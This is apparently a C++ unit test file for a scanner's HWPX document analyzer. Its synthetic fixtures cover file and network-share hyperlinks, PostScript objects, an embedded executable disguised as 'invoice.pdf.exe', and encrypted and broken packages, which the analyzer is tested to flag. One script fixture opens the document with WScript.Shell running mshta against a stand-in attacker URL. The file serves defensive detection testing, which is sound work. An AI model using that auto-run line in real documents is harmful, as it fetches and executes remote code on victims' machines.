// Generated HWPX packages: section text, hyperlink fields, PostScript and OLE objects in
// BinData/, scripts, encryption, and broken packages; then the whole engine.
#include "analyzers/hwp/hwpx_analyzer.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "analyzers/hwp/hwp_test_builder.h"
#include "analyzers/hwp/hwpx_fixture.h"
#include "analyzers/hwp/hwpx_section.h"
#include "core/file_type.h"
#include "core/testing/recording_context.h"
#include "engine/registry.h"
#include "engine/scan.h"
#include "formats/cfb/compound_file.h"

namespace lg {
namespace {

using testing::hwp_ole_package;
using testing::hwpx_hyperlink;
using testing::hwpx_paragraph;
using testing::HwpxBuilder;
using testing::RecordingContext;

RecordingContext run(ByteView data) {
  RecordingContext ctx;
  EXPECT_TRUE(HwpxAnalyzer().analyze(data, ctx).is_ok());
  return ctx;
}

std::string str_of(const Bytes& b) { return std::string(b.begin(), b.end()); }

TEST(HwpxSection, TextRunsAndControls) {
  HwpxSection s = read_hwpx_section(
      std::string("<hs:sec xmlns:hs=\"s\" xmlns:hp=\"p\"><hp:p><hp:run><hp:t>Job offer"
                  "<hp:tab/>Senior</hp:t></hp:run><hp:run><hp:t> engineer</hp:t></hp:run></hp:p>"
                  "<hp:p/><hp:p><hp:run><hp:t>\xED\x95\x9C\xEA\xB8\x80<hp:lineBreak/>x</hp:t>"
                  "</hp:run></hp:p></hs:sec>"));
  EXPECT_TRUE(s.well_formed);
  EXPECT_EQ(s.text, "Job offer\tSenior engineer\n\xED\x95\x9C\xEA\xB8\x80\nx");
  EXPECT_EQ(s.paragraphs, 3);
}

TEST(HwpxSection, HyperlinkCommandAndPath) {
  HwpxSection s =
      read_hwpx_section("<sec><p>" +
                        std::string("<fieldBegin type=\"HYPERLINK\"><parameters>"
                                    "<stringParam name=\"Command\">http\\://a.example/x;1;0;0;"
                                    "</stringParam></parameters></fieldBegin>") +
                        "<fieldBegin type=\"HYPERLINK\"><parameters><stringParam name=\"Path\">"
                        "file:///C:/x.exe</stringParam></parameters></fieldBegin>"
                        "<fieldBegin type=\"CLICK_HERE\"><parameters><stringParam name=\"Command\">"
                        "http\\://no.example/</stringParam></parameters></fieldBegin></p></sec>");
  ASSERT_EQ(s.hyperlinks.size(), 2u);
  EXPECT_EQ(s.hyperlinks[0], "http://a.example/x");
  EXPECT_EQ(s.hyperlinks[1], "file:///C:/x.exe");
}

TEST(HwpxSection, BrokenXmlKeepsWhatCameBefore) {
  HwpxSection s = read_hwpx_section("<sec><p><run><t>kept text</t></run></p><p><t>cut");
  EXPECT_FALSE(s.well_formed);
  EXPECT_NE(s.text.find("kept text"), std::string::npos);
}

TEST(HwpxAnalyzer, DocumentTextAndFacts) {
  HwpxBuilder b;
  b.section(hwpx_paragraph("First section") + hwpx_paragraph("second line"));
  b.section(hwpx_paragraph("Second section"));
  Bytes file = b.build();
  ASSERT_EQ(identify(file), FileType::kHwpx);
  RecordingContext ctx = run(file);
  EXPECT_EQ(ctx.all_text(TextKind::kDocument).find("First section\nsecond line"), 0u);
  EXPECT_NE(ctx.all_text(TextKind::kDocument).find("Second section"), std::string::npos);
  EXPECT_EQ(ctx.str("hwp_format"), "hwpx");
  EXPECT_EQ(ctx.str("hwp_version"), "5.1.0.1");
  EXPECT_EQ(ctx.num("hwp_sections"), 2);
  EXPECT_EQ(ctx.num("hwp_paragraphs"), 3);
  EXPECT_TRUE(ctx.findings.empty());
  EXPECT_TRUE(ctx.children.empty());
}

TEST(HwpxAnalyzer, HyperlinksToFilesAndScripts) {
  HwpxBuilder b;
  b.section(hwpx_hyperlink("http\\://news.example/a;1;0;0;", "news") +
            hwpx_hyperlink("file\\:///C\\:/Users/Public/update.vbs;1;0;0;", "open") +
            hwpx_hyperlink("\\\\\\\\10.0.0.5\\\\share\\\\doc.lnk;1;0;0;", "share"));
  RecordingContext ctx = run(b.build());
  ASSERT_EQ(ctx.links.size(), 3u);
  EXPECT_EQ(ctx.links[0].href, "http://news.example/a");
  EXPECT_EQ(ctx.links[1].href, "file:///C:/Users/Public/update.vbs");
  EXPECT_EQ(ctx.links[2].href, "\\\\10.0.0.5\\share\\doc.lnk");
  std::size_t n = std::count_if(ctx.findings.begin(), ctx.findings.end(), [](const auto& f) {
    return f.symbol == Symbol::HWP_HYPERLINK_FILE;
  });
  EXPECT_EQ(n, 2u);
}

TEST(HwpxAnalyzer, PostScriptObject) {
  HwpxBuilder b;
  b.section(hwpx_paragraph("x"));
  b.bindata("image1.eps", "%!PS-Adobe-3.0 EPSF-3.0\n/x { exec } def\n", "application/postscript");
  RecordingContext ctx = run(b.build());
  EXPECT_TRUE(ctx.has(Symbol::HWP_POSTSCRIPT));
  ASSERT_EQ(ctx.children.size(), 1u);
  EXPECT_EQ(ctx.children[0].info.relation, "bindata");
  EXPECT_EQ(ctx.children[0].info.name, "BinData/image1.eps");

  // By content, whatever the name; and by media type when the name has no extension.
  HwpxBuilder renamed;
  renamed.section(hwpx_paragraph("x"));
  renamed.bindata("image2.jpg", "%!PS-Adobe-3.0\n");
  renamed.bindata("image3", "not obviously postscript", "application/postscript");
  RecordingContext r = run(renamed.build());
  std::size_t n = std::count_if(r.findings.begin(), r.findings.end(),
                                [](const auto& f) { return f.symbol == Symbol::HWP_POSTSCRIPT; });
  EXPECT_EQ(n, 2u);

  HwpxBuilder clean;
  clean.section(hwpx_paragraph("x"));
  clean.bindata("image1.png", "\x89PNG\r\n\x1A\n", "image/png");
  EXPECT_FALSE(run(clean.build()).has(Symbol::HWP_POSTSCRIPT));
}

TEST(HwpxAnalyzer, OlePackageWithAnExecutable) {
  Bytes mz = {'M', 'Z', 0x90, 0, 3, 0, 0, 0};
  HwpxBuilder b;
  b.section(hwpx_paragraph("x"));
  b.bindata("ole1.ole", str_of(hwp_ole_package("invoice.pdf.exe", mz)), "application/ole");
  RecordingContext ctx = run(b.build());
  EXPECT_TRUE(ctx.has(Symbol::HWP_EMBEDDED_OLE_EXECUTABLE));
  ASSERT_EQ(ctx.children.size(), 1u);
  EXPECT_TRUE(CompoundFile::has_signature(ctx.children[0].data));

  HwpxBuilder harmless;
  harmless.section(hwpx_paragraph("x"));
  harmless.bindata("ole1.ole", str_of(hwp_ole_package("chart.txt", as_bytes("1 2 3"))));
  EXPECT_FALSE(run(harmless.build()).has(Symbol::HWP_EMBEDDED_OLE_EXECUTABLE));
}

TEST(HwpxAnalyzer, Scripts) {
  const std::string header =
      "var Documents = XHwpDocuments;\r\nvar Document = Documents.Active_XHwpDocument;\r\n";
  HwpxBuilder b;
  b.section(hwpx_paragraph("x"));
  b.script("headerScripts", header);
  b.script("sourceScripts",
           "function OnDocument_Open()\r\n{\r\n\tnew ActiveXObject(\"WScript.Shell\")"
           ".Run(\"mshta http://evil.example/a.hta\");\r\n}\r\n");
  RecordingContext ctx = run(b.build());
  EXPECT_TRUE(ctx.has(Symbol::HWP_SCRIPT));
  EXPECT_NE(ctx.all_text(TextKind::kScript).find("WScript.Shell"), std::string::npos);

  // The empty template, as UTF-16LE with a BOM, is not a finding.
  std::string utf16 = "\xFF\xFE";
  for (char c : std::string("function OnDocument_New()\r\n{\r\n\t//todo\r\n}\r\n")) {
    utf16 += c;
    utf16 += '\0';
  }
  HwpxBuilder quiet;
  quiet.section(hwpx_paragraph("x"));
  quiet.script("headerScripts", header);
  quiet.script("sourceScripts", utf16);
  RecordingContext q = run(quiet.build());
  EXPECT_FALSE(q.has(Symbol::HWP_SCRIPT));
  EXPECT_NE(q.all_text(TextKind::kScript).find("OnDocument_New"), std::string::npos);
}

TEST(HwpxAnalyzer, EncryptedParts) {
  HwpxBuilder b;
  b.raw_section("\x93\x11\xA0 encrypted bytes, not XML");
  b.encrypted("Contents/section0.xml");
  RecordingContext ctx = run(b.build());
  EXPECT_TRUE(ctx.has(Symbol::HWP_ENCRYPTED));
  EXPECT_FALSE(ctx.has(Symbol::HWP_MALFORMED));  // an encrypted part is not parsed
  EXPECT_TRUE(std::get<bool>(ctx.facts["hwp_password"]));
  EXPECT_TRUE(ctx.all_text(TextKind::kDocument).empty());

  HwpxBuilder plain;
  plain.section(hwpx_paragraph("x"));
  RecordingContext p = run(plain.build());
  EXPECT_FALSE(p.has(Symbol::HWP_ENCRYPTED));
  EXPECT_FALSE(std::get<bool>(p.facts["hwp_password"]));
}

TEST(HwpxAnalyzer, LinkedFiles) {
  HwpxBuilder b;
  b.section(hwpx_paragraph("x"));
  b.linked("\\\\10.0.0.5\\share\\logo.png");
  RecordingContext ctx = run(b.build());
  auto linked = std::get<std::vector<std::string>>(ctx.facts["hwp_linked_files"]);
  ASSERT_EQ(linked.size(), 1u);
  EXPECT_EQ(linked[0], "\\\\10.0.0.5\\share\\logo.png");
}

TEST(HwpxAnalyzer, BrokenPackages) {
  EXPECT_TRUE(run(as_bytes("PK\x03\x04 not really")).has(Symbol::HWP_MALFORMED));
  HwpxBuilder nosection;
  EXPECT_TRUE(run(nosection.build()).has(Symbol::HWP_MALFORMED));
  HwpxBuilder bad;
  bad.raw_section("<hs:sec><hp:p><hp:t>visible</hp:t></hp:p><hp:p");
  RecordingContext ctx = run(bad.build());
  EXPECT_TRUE(ctx.has(Symbol::HWP_MALFORMED));
  EXPECT_NE(ctx.all_text(TextKind::kDocument).find("visible"), std::string::npos);

  // Every prefix and some flipped bytes of a full package: no crash, always a status.
  HwpxBuilder full;
  full.section(hwpx_hyperlink("file\\:///x.exe;1;0;0;", "a") + hwpx_paragraph("text"));
  full.bindata("image1.eps", "%!PS\n");
  full.script("sourceScripts", "eval(x)");
  Bytes file = full.build();
  for (std::size_t n = 0; n < file.size(); n += 7) {
    RecordingContext c;
    EXPECT_TRUE(HwpxAnalyzer().analyze(ByteView(file).first(n), c).is_ok());
  }
  for (std::size_t i = 0; i < file.size(); i += 11) {
    Bytes flipped = file;
    flipped[i] ^= 0x5A;
    RecordingContext c;
    EXPECT_TRUE(HwpxAnalyzer().analyze(flipped, c).is_ok());
  }
}

// End to end: the registry maps HWPX to this analyzer and the engine opens the OLE child.
TEST(HwpxAnalyzer, ThroughTheEngine) {
  Bytes mz = {'M', 'Z', 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xFF, 0xFF, 0, 0};
  HwpxBuilder b;
  b.section(hwpx_paragraph("Please review the attached offer"));
  b.bindata("image1.eps", "%!PS-Adobe-3.0 EPSF-3.0\n");
  b.bindata("ole1.ole", str_of(hwp_ole_package("offer.exe", mz)));
  Bytes file = b.build();
  Config config = default_config();
  TextScanner scanner;
  Report r;
  Scan scan(config, scanner, r, make_analyzer);
  scan.run("offer.hwpx", file);
  auto has = [&r](std::string_view s) {
    return std::any_of(r.findings.begin(), r.findings.end(),
                       [s](const Finding& f) { return f.symbol == s; });
  };
  EXPECT_TRUE(has("HWP_POSTSCRIPT"));
  EXPECT_TRUE(has("HWP_EMBEDDED_OLE_EXECUTABLE"));
  ASSERT_GE(r.objects.size(), 3u);
  EXPECT_EQ(r.objects[0].type, "hwpx");
  bool ole_child = false;
  for (const auto& o : r.objects) ole_child = ole_child || (o.type == "ole2" && o.depth == 1);
  EXPECT_TRUE(ole_child);
}

}  // namespace
}  // namespace lg
